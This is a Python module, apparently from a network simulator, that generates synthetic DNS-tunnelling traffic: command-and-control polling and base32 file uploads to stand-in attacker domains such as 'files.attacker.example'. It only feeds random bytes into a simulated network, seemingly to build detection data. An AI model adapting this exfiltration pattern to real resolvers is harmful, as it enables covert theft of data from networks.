"""A program talks to its controller through the resolver: data in the names it asks for.

`interactive`  polls and answers in TXT and CNAME, short while idle, long while something moves
`upload`       a file goes out in base32 labels; all questions are for A and the answer says nothing
With `leg` the resolver's own question to the outside is seen too.
"""
import base64

from . import dns

LABEL_MAX = 60


def labels(data):
    return ".".join(data[i:i + LABEL_MAX] for i in range(0, len(data), LABEL_MAX))


def base32(rng, size):
    return base64.b32encode(rng.randbytes(size)).decode().lower().rstrip("=")


def question(network, client, name, at_us, leg, **answer):
    dns.ask(network, client, network.resolver, name, at_us, think_us=40000, **answer)
    if leg:
        dns.ask(network, network.resolver, network.upstream, name, at_us + 500, think_us=35000,
                **answer)


def interactive(network, rng, client="10.1.1.43", domain="ns.attacker.example", polls=240,
                start_s=300, gap_s=2, leg=False):
    here, at_s = network.host(client), start_s
    for number in range(polls):
        size = rng.randint(40, 90) if rng.random() < 0.3 else 9
        name = f"{labels(rng.randbytes(size).hex())}.{domain}"
        at_us = network.us(at_s)
        if number % 2:
            question(network, here, name, at_us, leg, kind=dns.TXT, texts=[rng.randbytes(20).hex()])
        else:
            question(network, here, name, at_us, leg, kind=dns.CNAME,
                     names=[f"{rng.randbytes(16).hex()}.{domain}"])
        at_s += rng.expovariate(1 / gap_s)


def upload(network, rng, client="10.1.1.44", domain="files.attacker.example", size=20000,
           start_s=400, gap_s=1.5, leg=False):
    here, at_s = network.host(client), start_s
    for _ in range(0, size, 90):
        name = f"{labels(base32(rng, 90))}.{domain}"
        question(network, here, name, network.us(at_s), leg, addresses=["192.0.2.80"])
        at_s += rng.expovariate(1 / gap_s)
